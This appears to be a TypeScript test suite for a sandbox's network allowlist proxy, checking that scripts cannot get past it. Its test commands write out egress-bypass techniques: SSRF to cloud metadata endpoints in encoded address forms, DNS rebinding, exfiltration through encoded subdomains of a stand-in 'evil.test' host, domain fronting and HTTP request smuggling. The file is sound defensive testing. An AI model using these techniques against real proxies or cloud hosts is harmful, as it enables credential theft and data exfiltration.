import { createServer, type Server } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { type Host, openHost } from '../sandbox/support/host';
import { makeAuthority } from '../support/certificates';

/** Ways past the list of hosts, tried with the programs that are there in the sandbox: nothing may be reached. */
let plain: Server;
let secure: Server;
let http: number;
let https: number;
let host: Host;
const reached: string[] = [];
/** Name servers in an attacker's hand: what each name resolves to, one answer after the other. */
const answers: Record<string, string[]> = {
  'allowed.test': ['127.0.0.1'],
  'front.test': ['127.0.0.1'],
  'loopback.test': ['127.0.0.2'],
  'private.test': ['10.1.2.3'],
  'carrier.test': ['100.64.0.1'],
  'local6.test': ['fd12:3456::1'],
  'linklocal.test': ['169.254.169.254'],
  'mapped.test': ['::ffff:10.0.0.1'],
  'metadata6.test': ['fd00:ec2::254'],
  'both.test': ['10.0.0.1', '127.0.0.2'],
};
const lookups: string[] = [];

beforeAll(async () => {
  const names = ['allowed.test', 'front.test', 'evil.test'];
  const { certificate: cert, privateKey: key } = makeAuthority('Test CA').certify(names);
  const answer = (
    request: { url?: string; headers: { host?: string } },
    response: import('node:http').ServerResponse,
  ) => {
    reached.push(`${request.headers.host} ${request.url}`);
    if (request.url === '/away') response.writeHead(302, { location: `http://evil.test:${http}/stolen` });
    response.end('reached\n');
  };
  plain = createServer(answer);
  secure = createTlsServer({ cert, key }, answer);
  http = await listening(plain);
  https = await listening(secure);
  host = openHost({
    network: [
      `allowed.test:${http}`,
      `allowed.test:${https}`,
      `127.0.0.1:${http}`,
      `127.0.0.1:${https}`,
      'front.test',
      ...Object.keys(answers).filter((name) => !['allowed.test', 'front.test'].includes(name)),
      '169.254.169.254',
      '[fd00:ec2::254]',
      'metadata.google.internal',
    ],
    sandbox: {
      resolve(name, _, done) {
        lookups.push(name);
        const found = (answers[name] ?? []).map((address) => ({
          address,
          family: address.includes(':') ? 6 : 4,
        }));
        done(found.length > 0 ? null : Object.assign(new Error('not found'), { code: 'ENOTFOUND' }), found);
      },
    },
  });
  await host.prepare();
});
afterAll(async () => {
  host.close();
  for (const server of [plain, secure]) {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
});
beforeEach(() => {
  reached.length = 0;
  lookups.length = 0;
});

async function attempt(script: string) {
  const { outcomes, refusedHosts } = await host.execute('script', { script }, 'sandbox');
  return {
    text: outcomes[0]?.text ?? '',
    refused: refusedHosts.map((refused) => `${refused.host}:${refused.port} ${refused.reason}`),
  };
}

test('a host of the list is reached, in clear and end to end', async () => {
  const { text, refused } = await attempt(
    `curl -sS http://allowed.test:${http}/a; curl -sS -k https://allowed.test:${https}/b`,
  );
  expect(text).toContain('reached\nreached');
  expect(reached).toEqual([`allowed.test:${http} /a`, `allowed.test:${https} /b`]);
  expect(refused).toEqual([]);
});

test.each([
  ['loopback', 'loopback.test'],
  ['a private network', 'private.test'],
  ['a carrier network', 'carrier.test'],
  ['a unique local address', 'local6.test'],
  ['link-local', 'linklocal.test'],
  ['a private address mapped into IPv6', 'mapped.test'],
  ['metadata by IPv6', 'metadata6.test'],
  ['several private addresses', 'both.test'],
])('a listed name that resolves to %s is refused, in clear and by tunnel', async (_, name) => {
  const { text, refused } = await attempt(`curl -sS -m 5 http://${name}/; curl -sS -m 5 -k https://${name}/`);
  expect(text).not.toContain('reached\n');
  expect(refused.sort()).toEqual([`${name}:443 address`, `${name}:80 address`]);
  expect(text).toContain(
    `the network refused \`${name}:443\`: the name leads to this machine or a private network`,
  );
});

test('a name is resolved once for each connection, so that it cannot turn between check and connect', async () => {
  answers['allowed.test'] = ['127.0.0.1'];
  const { text } = await attempt(`curl -sS -m 5 http://allowed.test:${http}/once`);
  expect(text).toContain('reached');
  expect(lookups).toEqual(['allowed.test']);
  answers['allowed.test'] = ['127.0.0.2'];
  try {
    const turned = await attempt(`curl -sS -m 5 http://allowed.test:${http}/turned`);
    expect(turned.refused).toEqual([`allowed.test:${http} address`]);
    expect(reached).toEqual([`allowed.test:${http} /once`]);
  } finally {
    answers['allowed.test'] = ['127.0.0.1'];
  }
});

test('a name that is not listed is not even looked up: nothing leaves by its letters', async () => {
  const { refused } = await attempt(
    `for name in c2VjcmV0.evil.test c2VjcmV0.allowed.test allowed.test.c2VjcmV0.test; do curl -sS -m 5 http://$name/; curl -sS -m 5 -k https://$name/; curl -sS -m 5 -p http://$name:53/; done; curl -sS -m 5 -H 'Host: c2VjcmV0.evil.test' http://allowed.test:${http}/`,
  );
  expect(refused).toHaveLength(10);
  expect(lookups).toEqual([]);
  expect(reached).toEqual([]);
  expect((await attempt(`curl -sS http://allowed.test:${http}/on`)).text).toContain('reached');
});

test.each([
  '169.254.169.254',
  '2852039166',
  '0xa9fea9fe',
  '0251.0376.0251.0376',
  '169.254.43518',
  '[::ffff:169.254.169.254]',
  '[fd00:ec2::254]',
  'metadata.google.internal',
  'METADATA.Google.Internal.',
])('the metadata service is refused as %s, though it was listed', async (name) => {
  const { text, refused } = await attempt(
    `curl -sS -m 5 'http://${name}/latest'; curl -sS -m 5 -k 'https://${name}/latest'`,
  );
  expect(text).not.toContain('reached\n');
  expect(refused).toHaveLength(2);
  for (const each of refused) expect(each).toMatch(/ metadata$/);
});

test.each([
  ['decimal', '2130706434'],
  ['hexadecimal', '0x7f000002'],
  ['octal', '0177.0.0.2'],
  ['short', '127.2'],
  ['mapped into IPv6', '[::ffff:127.0.0.2]'],
  ['IPv6', '[::1]'],
  ['plain', '127.0.0.2'],
])('an address that is not listed is refused, written as %s', async (_, address) => {
  const { refused } = await attempt(
    `curl -sS -m 5 'http://${address}:${http}/'; curl -sS -m 5 -k 'https://${address}:${https}/'`,
  );
  expect(refused).toHaveLength(2);
  for (const each of refused) expect(each).toMatch(/ host$/);
  expect(reached).toEqual([]);
});

test.each([
  ['another end', `allowed.test.evil.test`],
  ['another start', `evil-allowed.test`],
  ['a name below', `sub.allowed.test`],
  ['a dotted letter', `all\u0131wed.test`],
  ['full-width letters', `\uff41llowed.test`],
  ['punycode', `xn--allwed-uxa.test`],
  ['a percent sign', `allowed%2etest`],
  ['a zone', `[fe80::1%25allowed.test]`],
])('a name like a listed one is refused: %s', async (_, name) => {
  const request = (method: string) =>
    `printf '%s HTTP/1.1\\r\\nHost: allowed.test:${http}\\r\\nConnection: close\\r\\n\\r\\n' '${method}' | socat -t 2 - TCP:127.0.0.1:3128`;
  const { text } = await attempt(
    `${request(`GET http://${name}:${http}/`)}; ${request(`CONNECT ${name}:${http}`)}`,
  );
  expect(text.match(/HTTP\/1\.1 [2345]\d\d/g)).toEqual([
    expect.stringMatching(/ (400|403|421|500)$/),
    expect.stringMatching(/ (400|403)$/),
  ]);
  expect(reached).toEqual([]);
});

test('upper case and a dot at the end name the same host, and it alone is dialled', async () => {
  const { refused } = await attempt(
    `curl -sS -m 5 http://ALLOWED.Test:${http}/same; curl -sS -m 5 -k https://Allowed.TEST.:${https}/same`,
  );
  expect(lookups).toEqual(['allowed.test', 'allowed.test']);
  expect(reached).toHaveLength(2);
  expect(refused).toEqual([]);
});

test('another port of a listed host is refused, in clear and by tunnel', async () => {
  const { text, refused } = await attempt(
    `curl -sS -m 5 http://front.test:${http}/; curl -sS -m 5 -k https://front.test:${https}/; curl -sS -m 5 -p http://front.test:22/`,
  );
  expect(refused.sort()).toEqual(
    [`front.test:${http} port`, `front.test:${https} port`, 'front.test:22 port'].sort(),
  );
  expect(text).toContain('an entry without a port means 443 and 80');
  expect(reached).toEqual([]);
});

test('a redirect is a request of its own, and is refused as one', async () => {
  const { text, refused } = await attempt(`curl -sS -m 5 -L http://allowed.test:${http}/away`);
  expect(refused).toEqual([`evil.test:${http} host`]);
  expect(text).toContain(`the network refused \`evil.test:${http}\``);
  expect(reached).toEqual([`allowed.test:${http} /away`]);
});

test('a Host header that names another host than the request goes to is refused', async () => {
  const { refused } = await attempt(`curl -sS -m 5 -H 'Host: evil.test' http://allowed.test:${http}/fronted`);
  expect(refused).toEqual([`allowed.test:${http} misdirected`]);
  expect(reached).toEqual([]);
});

test('a tunnel whose Host header names another host is refused', async () => {
  const { text, refused } = await attempt(
    `printf 'CONNECT allowed.test:${https} HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n' | socat -t 2 - TCP:127.0.0.1:3128`,
  );
  expect(text).toContain('421');
  expect(refused).toEqual([`allowed.test:${https} misdirected`]);
});

test('TLS that asks for another host than the tunnel was opened to does not get through', async () => {
  const { refused } = await attempt(
    `curl -sS -m 5 -k --connect-to evil.test:443:allowed.test:${https} https://evil.test/fronted`,
  );
  expect(refused).toEqual([`allowed.test:${https} misdirected`]);
  expect(reached).toEqual([]);
});

test('TLS that asks for nobody, or for an address, does not get through', async () => {
  const { refused } = await attempt(
    `echo | openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:${https} -noservername; echo | openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:${https} -servername 127.0.0.1`,
  );
  expect(refused).toEqual([`allowed.test:${https} misdirected`]);
  expect(reached).toEqual([]);
});

test('two requests in one, told apart by their lengths, reach nobody', async () => {
  const { text } = await attempt(
    `printf 'POST http://allowed.test:${http}/first HTTP/1.1\\r\\nHost: allowed.test:${http}\\r\\nContent-Length: 60\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' | socat -t 2 - TCP:127.0.0.1:3128`,
  );
  expect(text).toMatch(/HTTP\/1\.1 400/);
  expect(reached).toEqual([]);
});

test('a host and a port beyond all bounds are refused, and told within them', async () => {
  const { refused } = await attempt(
    `name=$(head -c 9000 /dev/zero | tr '\\0' a); for to in "$name:443" allowed.test:99999 allowed.test:0; do printf 'CONNECT %s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' "$to" | socat -t 2 - TCP:127.0.0.1:3128; done`,
  );
  expect(refused).toEqual([`${'a'.repeat(253)}:443 malformed`, 'allowed.test:0 malformed']);
});

test('refusals without end are told once each and twenty times at most', async () => {
  const { refused, text } = await attempt(
    'for i in $(seq 40); do curl -sS -m 5 http://n$i.evil.test/ & curl -sS -m 5 http://n1.evil.test/ & done; wait',
  );
  expect(refused).toHaveLength(20);
  expect(new Set(refused).size).toBe(20);
  expect(text.match(/the network refused/g)).toHaveLength(20);
});

async function listening(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}
